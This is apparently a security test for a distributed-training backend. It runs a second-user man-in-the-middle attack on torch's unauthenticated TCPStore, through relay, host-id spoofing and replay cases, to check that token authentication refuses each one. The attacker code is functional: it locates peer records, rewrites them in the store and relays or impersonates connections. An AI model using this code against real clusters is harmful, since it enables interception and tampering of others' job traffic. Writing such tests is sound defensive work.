"""A man in the middle through torch's store, tried by another user (issue 22, item 1).

torch's TCPStore asks nobody who they are: any user who can reach its port reads and writes
every key. The backend keeps each rank's record there (address, pid, host id, setup nonce),
so an attacker without RR_JOB_TOKEN can rewrite rank 0's record to point at itself. With a
token, ringreduce must refuse (rendezvous/bootstrap.c): the records carry a MAC keyed with
the token, and both ends of every connection prove the token over nonces of both sides.

The attacker here is a real second user (created by the test; the test needs root to run
it as that user, and skips otherwise) running torch's own store client. Three attacks, each
on a fresh two-rank job with RR_JOB_TOKEN set on the ranks only:

  relay_tcp     RR_TRANSPORT=tcp: rank 0's record rewritten to name the attacker's relay,
                which forwards to the real rank 0 (and could change the data on the way).
  relay_hostid  the default transport: the host id rewritten too, so that the pair would
                leave shared memory for sockets, through the relay.
  replay        a record rank 0 wrote, with the token, in an earlier job with the same token,
                written back over the new one; the attacker answers at the old address
                (a record that is authentic but stale: only the reply's proof catches it).

Each must end on both ranks with an error within the time limit, rank 1's naming rank 0 and
the token, and no connection may reach the attacker from a rank that went on after it.

Usage: torch_mitm.py            (the driver, as root; runs every case)
       torch_mitm.py attacker CASE HOST PORT STATEFILE   (the attacker, as the other user)
       torch_mitm.py rank CASE RANK PORT                 (one rank)
"""
import json
import os
import pwd
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

ATTACKER = "rr-attacker"
TIMEOUT_S = 12  # the ranks' init timeout; every case ends well inside 3x this
CASES = ("relay_tcp", "relay_hostid", "replay")


def log(*a):
    print("[torch_mitm]", *a, flush=True)


# ---------------------------------------------------------------- the attacker's side

def siphash24(key, data):
    """SipHash-2-4 of data under a 16-byte key (what the library names groups with)."""
    mask = (1 << 64) - 1

    def rotl(x, b):
        return ((x << b) | (x >> (64 - b))) & mask
    k0, k1 = int.from_bytes(key[:8], "little"), int.from_bytes(key[8:], "little")
    v = [k0 ^ 0x736f6d6570736575, k1 ^ 0x646f72616e646f6d, k0 ^ 0x6c7967656e657261,
         k1 ^ 0x7465646279746573]

    def rounds(n):
        for _ in range(n):
            v[0] = (v[0] + v[1]) & mask; v[1] = rotl(v[1], 13); v[1] ^= v[0]; v[0] = rotl(v[0], 32)  # noqa: E702
            v[2] = (v[2] + v[3]) & mask; v[3] = rotl(v[3], 16); v[3] ^= v[2]  # noqa: E702
            v[0] = (v[0] + v[3]) & mask; v[3] = rotl(v[3], 21); v[3] ^= v[0]  # noqa: E702
            v[2] = (v[2] + v[1]) & mask; v[1] = rotl(v[1], 17); v[1] ^= v[2]; v[2] = rotl(v[2], 32)  # noqa: E702
    tail = len(data) % 8
    for i in range(0, len(data) - tail, 8):
        m = int.from_bytes(data[i:i + 8], "little")
        v[3] ^= m
        rounds(2)
        v[0] ^= m
    m = int.from_bytes(data[len(data) - tail:], "little") | ((len(data) & 0xff) << 56)
    v[3] ^= m
    rounds(2)
    v[0] ^= m
    v[2] ^= 0xff
    rounds(4)
    return v[0] ^ v[1] ^ v[2] ^ v[3]


def group_ids():
    """The library's ids of the default torch group under the names torch may give it (the
    backend's group key: restart attempt, torch's name, members; group/pg.c hashes it), and
    the unkeyed "w" of a library that names no group."""
    ids = ["w"]
    for name in ("0", "default_pg", "default"):
        key = f"torch/0/{name}/0,1".encode()
        ids.append("w-%016x" % siphash24(b"rr-group-key-v1\0", key))
    return ids


def record_keys(store):
    """Where the backend keeps rank 0's record under torch's prefixes (found by asking, as
    an attacker would: the store answers a wait on any key, and the library's group ids are
    a public function of torch's group name and members)."""
    import datetime
    for prefix in ("", "default_pg/", "0/", "default_pg/0/", "ringreduce/"):
        for gid in group_ids():
            key = prefix + f"rr/{gid}/peer/0"
            try:
                store.wait([key], datetime.timedelta(milliseconds=5))
                return key
            except RuntimeError:
                pass
    return None


def serve(lsock, stats, handle):
    """Accept connections until the socket closes, count them, hand each to handle."""
    while True:
        try:
            c, _ = lsock.accept()
        except OSError:
            return
        stats["connections"] += 1
        handle(c)


def relay(lsock, target, stats):
    """Forward every connection to target, both ways; count them."""
    def pump(a, b):
        try:
            while True:
                d = a.recv(65536)
                if not d:
                    break
                b.sendall(d)
        except OSError:
            pass
        for s in (a, b):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def forward(c):
        try:
            u = socket.create_connection(target)
        except OSError:
            c.close()
            return
        threading.Thread(target=pump, args=(c, u), daemon=True).start()
        threading.Thread(target=pump, args=(u, c), daemon=True).start()

    serve(lsock, stats, forward)


def impostor(lsock, stats):
    """Answer greetings at a stale address as rank 0 would, without the token: the reply's
    magic, "accepted", and a proof that is a guess."""
    def answer(c):
        try:
            c.settimeout(5)
            got = b""
            while len(got) < 128:
                d = c.recv(128 - len(got))
                if not d:
                    break
                got += d
            c.sendall(struct.pack("<II", 0x4F4B, 0) + os.urandom(8))
            threading.Thread(target=lambda: (time.sleep(30), c.close()), daemon=True).start()
        except OSError:
            c.close()

    serve(lsock, stats, answer)


def attacker(case, host, port, statefile):
    import torch.distributed as dist
    store = dist.TCPStore(host, int(port), 2, False, timeout=__import__("datetime").timedelta(seconds=30))
    deadline = time.time() + 30
    key = None
    while key is None and time.time() < deadline:
        key = record_keys(store)
        if key is None:
            time.sleep(0.01)
    if key is None:
        print(json.dumps({"error": "rank 0's record never appeared"}), flush=True)
        return 1
    rec = store.get(key).decode()
    fields = dict(kv.split("=", 1) for kv in rec.split(" "))
    stats = {"connections": 0}
    if case == "record":  # the earlier job: keep rank 0's record for the replay
        with open(statefile, "w") as f:
            f.write(rec)
        print(json.dumps({"key": key, "saved": True}), flush=True)
        return 0
    lsock = socket.socket()
    if case == "replay":
        with open(statefile) as f:
            old = f.read()
        ohost, oport = dict(kv.split("=", 1) for kv in old.split(" "))["addr"].rsplit(":", 1)
        lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        lsock.bind((ohost, int(oport)))
        lsock.listen(64)
        threading.Thread(target=impostor, args=(lsock, stats), daemon=True).start()
        store.set(key, old)
    else:
        lsock.bind(("127.0.0.1", 0))
        lsock.listen(64)
        h, p = fields["addr"].rsplit(":", 1)
        threading.Thread(target=relay, args=(lsock, (h, int(p)), stats), daemon=True).start()
        fields["addr"] = "127.0.0.1:%d" % lsock.getsockname()[1]
        if case == "relay_hostid":
            fields["host"] = "elsewhere/" + fields["host"]
        store.set(key, " ".join("%s=%s" % kv for kv in fields.items()))
    print(json.dumps({"key": key, "rewritten": True}), flush=True)
    # Stay until told to go (stdin closes), then say how many connections reached us.
    sys.stdin.read()
    print(json.dumps({"connections": stats["connections"]}), flush=True)
    return 0


# ---------------------------------------------------------------- the ranks

def rank_main(case, rank, port):
    import datetime
    import torch
    import torch.distributed as dist
    import ringreduce.torch  # noqa: F401  registers the backend
    out = {"rank": rank}
    t0 = time.time()
    try:
        dist.init_process_group("ringreduce", init_method="tcp://127.0.0.1:%s" % port,
                                rank=rank, world_size=2,
                                timeout=datetime.timedelta(seconds=TIMEOUT_S))
        t = torch.full((4,), float(rank + 1))
        dist.all_reduce(t)
        out["result"] = t.tolist()
    except Exception as e:  # what the user reads is what the test checks
        out["error"] = str(e)
    out["seconds"] = round(time.time() - t0, 2)
    print(json.dumps(out), flush=True)
    if case == "record" and rank == 0:
        # Let rank 1 close first, so that rank 0's port is left in no TIME_WAIT and the
        # attacker can take the address this record names.
        time.sleep(2)
    os._exit(0)


# ---------------------------------------------------------------- the driver

def attacker_ids():
    try:
        pw = pwd.getpwnam(ATTACKER)
    except KeyError:
        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin",
                        ATTACKER], check=True)
        pw = pwd.getpwnam(ATTACKER)
    return pw.pw_uid, pw.pw_gid


def free_port():
    import common  # this directory's; below the ephemeral range (its free_port says why)
    return common.free_port()


def last_json(text):
    for line in reversed(text.splitlines()):
        line = line.strip()
        if line.startswith("{"):
            return json.loads(line)
    return {}


def start_rank(case, rank, port, env):
    return subprocess.Popen([sys.executable, os.path.abspath(__file__), "rank", case, str(rank),
                             str(port)], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            text=True)


def start_attacker(script, case, port, state, ids):
    uid, gid = ids
    env = {"PATH": "/usr/bin:/bin", "HOME": "/", "OMP_NUM_THREADS": "1",
           "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.Popen([sys.executable, script, "attacker", case, "127.0.0.1", str(port), state],
                            env=env, user=uid, group=gid, extra_groups=[], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, cwd="/")


def read_line(p, deadline):
    """The attacker's first JSON line (it says when the store is rewritten), or what it
    said instead."""
    seen = ""
    while time.time() < deadline:
        line = p.stdout.readline()
        if not line:
            break
        if line.startswith("{"):
            return json.loads(line)
        seen += line
    return {"said": seen[-3000:]}


def run_case(case, script, state, ids, env):
    port = free_port()
    env = dict(env)
    if case != "relay_hostid":
        env["RR_TRANSPORT"] = "tcp"
    deadline = time.time() + 3 * TIMEOUT_S
    r0 = start_rank(case, 0, port, env)
    att = start_attacker(script, case, port, state, ids)
    said = read_line(att, deadline)
    if not said.get("rewritten"):
        r0.kill()
        att.kill()
        return ["attacker could not rewrite the record: %s" % said]
    r1 = start_rank(case, 1, port, env)
    outs = {}
    for r, p in ((0, r0), (1, r1)):
        try:
            text, _ = p.communicate(timeout=max(deadline - time.time(), 1))
        except subprocess.TimeoutExpired:
            p.kill()
            text = p.communicate()[0] + "\n(killed: no answer within %d s)" % (3 * TIMEOUT_S)
        outs[r] = (last_json(text), text)
    conn = last_json(att.communicate(input="", timeout=30)[0]).get("connections", -1)
    bad = []
    for r in (0, 1):
        o, text = outs[r]
        if "result" in o:
            bad.append("rank %d finished the all_reduce (result %s) with the attacker in the "
                       "store" % (r, o["result"]))
        elif "error" not in o:
            bad.append("rank %d gave no answer in time:\n%s" % (r, text[-2000:]))
    e1 = outs[1][0].get("error", "")
    want = "does not hold this job's token" if case == "replay" else "record of rank 0"
    if "error" in outs[1][0] and (want not in e1 or "token" not in e1):
        bad.append("rank 1's error does not say that rank 0's %s failed the token check: %s"
                   % ("reply" if case == "replay" else "record", e1))
    if case != "replay" and conn != 0:
        bad.append("%d connection(s) reached the attacker's relay" % conn)
    log(case, "rank 0:", outs[0][0].get("error", outs[0][0]), "| rank 1:", e1 or outs[1][0],
        "| relay connections:", conn)
    return bad


def earlier_job(script, state, ids, env):
    """A job that completes, with the token, while the attacker keeps rank 0's record."""
    port = free_port()
    env = dict(env, RR_TRANSPORT="tcp")
    r0 = start_rank("record", 0, port, env)
    att = start_attacker(script, "record", port, state, ids)
    saved = read_line(att, time.time() + 3 * TIMEOUT_S).get("saved")
    r1 = start_rank("record", 1, port, env)
    outs = [last_json(p.communicate(timeout=3 * TIMEOUT_S)[0]) for p in (r0, r1)]
    att.communicate(timeout=30)
    if not saved or any(o.get("result") != [3.0] * 4 for o in outs):
        return ["the earlier job did not run cleanly: %s, attacker saved=%s" % (outs, saved)]
    return []


def main():
    if len(sys.argv) > 1 and sys.argv[1] == "attacker":
        return attacker(*sys.argv[2:6])
    if len(sys.argv) > 1 and sys.argv[1] == "rank":
        return rank_main(sys.argv[2], int(sys.argv[3]), sys.argv[4])
    try:
        import torch  # noqa: F401
    except ImportError:
        print("skipped: no torch for", sys.executable)
        return 77
    if os.geteuid() != 0:
        print("skipped: the attacker is another user; creating and becoming one needs root")
        return 77
    ids = attacker_ids()
    # The attacker reads its script from a folder of its own (the checkout may be private).
    work = tempfile.mkdtemp(prefix="rr-mitm-")
    try:
        os.chmod(work, 0o755)
        script = os.path.join(work, "torch_mitm.py")
        shutil.copy(os.path.abspath(__file__), script)
        os.chmod(script, 0o644)
        state = os.path.join(work, "state")
        open(state, "w").close()
        os.chown(state, *ids)
        env = dict(os.environ, RR_JOB_TOKEN=os.urandom(16).hex())
        cases = sys.argv[1:] or list(CASES)
        bad = []
        for case in cases:
            if case == "replay":
                bad += earlier_job(script, state, ids, env)
            bad += run_case(case, script, state, ids, env)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    for b in bad:
        print("FAIL:", b)
    print("torch_mitm: %s" % ("FAILED" if bad else "every attack refused"))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
